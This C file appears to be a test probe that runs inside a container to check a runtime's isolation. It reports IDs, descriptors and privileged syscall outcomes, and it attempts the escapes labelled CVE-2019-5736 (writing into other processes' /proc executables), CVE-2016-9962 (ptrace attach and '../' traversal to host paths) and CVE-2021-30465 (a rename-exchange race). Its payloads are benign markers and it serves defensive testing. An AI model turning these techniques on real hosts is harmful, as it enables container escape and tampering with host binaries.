/* What a program sees and may do in a container: static, so that it opens nothing by itself. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int report(const char *what, long result) {
  printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "ok");
  return 0;
}

/* Every open descriptor and what it is, without opening a directory. */
static int descriptors(void) {
  for (int fd = 0; fd < 65536; fd++) {
    char path[64], target[4096];
    if (fcntl(fd, F_GETFD) < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(path, target, sizeof target - 1);
    target[n < 0 ? 0 : n] = 0;
    printf("%d %s\n", fd, target);
  }
  return 0;
}

static int user(void) {
  uid_t r, e, s;
  gid_t rg, eg, sg, groups[64];
  getresuid(&r, &e, &s);
  getresgid(&rg, &eg, &sg);
  printf("uid %u %u %u\ngid %u %u %u\ngroups", r, e, s, rg, eg, sg);
  int n = getgroups(64, groups);
  for (int i = 0; i < n; i++) printf(" %u", groups[i]);
  printf("\n");
  return 0;
}

static int calls(void) {
  report("mkdir", mkdir("/made", 0700));
  report("mknod", mknod("/node", S_IFCHR | 0666, 1 << 8 | 3));
  report("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
  report("mount-cgroup", mount("none", "/tmp", "cgroup", 0, "memory"));
  report("remount-cgroup", mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("remount-proc-sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("unmount-mask", umount2("/proc/kcore", MNT_DETACH));
  report("unshare-user", syscall(SYS_unshare, CLONE_NEWUSER));
  report("setgroups", syscall(SYS_setgroups, 0, NULL));
  report("keyctl", syscall(SYS_keyctl, 0, -3, 0));
  return 0;
}

static int keyring(void) {
  printf("%ld\n", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0));
  return 0;
}

static int attempt_write(const char *path) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  long written = write(fd, "#!/bin/false\n", 13);
  close(fd);
  return written > 0;
}

static int is_process(const char *name) { return *name >= '0' && *name <= '9' && atoi(name) != getpid(); }

/* CVE-2019-5736: keeps opening what the others execute, and writes to it. */
static int overwrite(int seconds) {
  int opened = 0, written = 0;
  for (time_t end = time(NULL) + seconds; time(NULL) < end;) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      char path[300], again[64];
      if (!is_process(entry->d_name)) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      opened++;
      snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
      for (int i = 0; i < 50 && !written; i++) written += attempt_write(again);
      close(fd);
    }
    closedir(proc);
  }
  printf("opened %d\nwritten %d\n", opened, written);
  return 0;
}

static const char *of_the_host; /* a path that only the host has */

/* What a descriptor is, and whether something of the host lies above it. */
static void report_once(const char *path, const char *target) {
  static char known[64][256];
  char kind[256], up[2000];
  size_t length = strcspn(target, "[0123456789");
  snprintf(kind, sizeof kind, "%.*s", *target == '/' ? 255 : (int)length, target);
  for (int i = 0; i < 64; i++) {
    if (!strcmp(known[i], kind)) return;
    if (*known[i]) continue;
    snprintf(known[i], sizeof known[i], "%s", kind);
    break;
  }
  printf("descriptor %s\n", target);
  for (int depth = 1; depth < 12; depth++) {
    snprintf(up, sizeof up, "%s/%.*s%s", path, 3 * depth, "../../../../../../../../../../../../", of_the_host);
    if (access(up, F_OK) == 0) printf("host %s\n", up);
    snprintf(up, sizeof up, "%s/%.*ssupervisors", path, 3 * depth, "../../../../../../../../../../../../");
    if (access(up, F_OK) == 0) printf("host %s\n", up);
  }
}

static int look_at_descriptors(const char *pid) {
  char path[600], target[4096];
  int seen = 0;
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *fds = opendir(path);
  if (!fds) return 0;
  for (struct dirent *entry; (entry = readdir(fds));) {
    if (atoi(entry->d_name) < 3) continue;
    snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) continue;
    target[n] = 0;
    seen++;
    report_once(path, target);
  }
  closedir(fds);
  return seen;
}

static int executes_the_launcher(const char *pid) {
  char path[300], target[4096];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t n = readlink(path, target, sizeof target - 1);
  target[n < 0 ? 0 : n] = 0;
  return strstr(target, "memfd") != NULL;
}

/* In execve(2) a process can be attached to once it has its new program and credentials: that is no hole. */
static int attach_to_launcher(const char *pid) {
  return ptrace(PTRACE_SEIZE, atoi(pid), 0, 0) == 0 && executes_the_launcher(pid);
}

/* What it may do that this process may not: a line of each's /proc/PID/status, as hexadecimal sets. */
static unsigned long long set_of(const char *pid, const char *name) {
  char path[300], line[256];
  unsigned long long set = 0;
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  FILE *status = fopen(path, "r");
  if (!status) return 0;
  while (fgets(line, sizeof line, status))
    if (!strncmp(line, name, strlen(name))) set = strtoull(line + strlen(name) + 1, NULL, 16);
  fclose(status);
  return set;
}

static int is_stronger(const char *pid) {
  static const char *const sets[] = {"CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:"};
  for (int i = 0; i < 5; i++)
    if (set_of(pid, sets[i]) & ~set_of("self", sets[i])) return 1;
  return set_of("self", "Seccomp:") > set_of(pid, "Seccomp:") && executes_the_launcher(pid);
}

/* A tracer must wait for what it traces, or the real parent never sees the end. */
static void release_traced(void) {
  int status;
  for (pid_t pid; (pid = waitpid(-1, &status, WNOHANG | __WALL)) > 0;)
    if (WIFSTOPPED(status)) ptrace(PTRACE_CONT, pid, 0, 0);
}

/* CVE-2016-9962: looks into every other process until /stop is there. */
static int spy(void) {
  int looks = 0, attached = 0, launcher = 0, seen = 0, stronger = 0;
  printf("ready\n");
  fflush(stdout);
  while (access("/stop", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
      if (!is_process(entry->d_name)) continue;
      looks++;
      stronger += is_stronger(entry->d_name);
      seen += look_at_descriptors(entry->d_name);
      launcher += executes_the_launcher(entry->d_name);
      attached += attach_to_launcher(entry->d_name);
      release_traced();
    }
    closedir(proc);
  }
  printf("looks %d\nattached %d\nlauncher %d\nseen %d\nstronger %d\n", looks, attached, launcher, seen, stronger);
  return 0;
}

/* Leaves an orphan that ends at once, and tells whether process 1 reaps it. */
static int orphan(void) {
  int pipes[2];
  pid_t grandchild;
  if (pipe(pipes) < 0) return 1;
  pid_t child = fork();
  if (child == 0) {
    grandchild = fork();
    if (grandchild == 0) {
      usleep(50000);
      _exit(0);
    }
    if (write(pipes[1], &grandchild, sizeof grandchild) < 0) _exit(1);
    _exit(0);
  }
  waitpid(child, NULL, 0);
  if (read(pipes[0], &grandchild, sizeof grandchild) < 0) return 1;
  for (int i = 0; i < 200 && kill(grandchild, 0) == 0; i++) usleep(20000);
  printf("%s\n", kill(grandchild, 0) < 0 ? "reaped" : "zombie");
  return 0;
}

static void hear(int number) {
  printf("signal %d\n", number);
  fflush(stdout);
  _exit(40 + number);
}

static int wait_for_signal(void) {
  signal(SIGTERM, hear);
  signal(SIGUSR1, hear);
  signal(SIGQUIT, hear);
  printf("ready\n");
  fflush(stdout);
  for (;;) pause();
  return 0;
}

/* open PATH r|w: what becomes of it. */
static int open_as(const char *path, const char *how) {
  int fd = open(path, (*how == 'w' ? O_WRONLY : O_RDONLY) | O_NONBLOCK | O_CLOEXEC);
  printf("%s\n", fd < 0 ? strerrorname_np(errno) : "ok");
  return 0;
}

/* node PATH c|b MAJOR MINOR, then opens it. */
static int node(char **a) {
  mode_t type = *a[3] == 'b' ? S_IFBLK : S_IFCHR;
  if (mknod(a[2], type | 0666, makedev(atoi(a[4]), atoi(a[5]))) < 0) return report("mknod", -1);
  return open_as(a[2], "r");
}

/* CVE-2021-30465: exchanges two names for ever. */
static int swap(const char *one, const char *two) {
  for (;;)
    if (renameat2(AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE) < 0) return report("swap", -1);
}

/* Nanoseconds. */
static int monotonic(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  printf("%lld\n", now.tv_sec * 1000000000LL + now.tv_nsec);
  return 0;
}

int main(int count, char **arguments) {
  const char *what = count > 1 ? arguments[1] : "true";
  if (!strcmp(what, "stop")) return mknod("/stop", S_IFREG | 0600, 0) < 0;
  if (!strcmp(what, "true")) return 0;
  if (!strcmp(what, "open")) return open_as(arguments[2], arguments[3]);
  if (!strcmp(what, "node")) return node(arguments);
  if (!strcmp(what, "descriptors")) return descriptors();
  if (!strcmp(what, "user")) return user();
  if (!strcmp(what, "calls")) return calls();
  if (!strcmp(what, "swap")) return swap(arguments[2], arguments[3]);
  if (!strcmp(what, "keyring")) return keyring();
  if (!strcmp(what, "overwrite")) return overwrite(atoi(arguments[2]));
  if (!strcmp(what, "spy")) return of_the_host = arguments[2], spy();
  if (!strcmp(what, "monotonic")) return monotonic();
  if (!strcmp(what, "orphan")) return orphan();
  if (!strcmp(what, "signal")) return wait_for_signal();
  return 64;
}
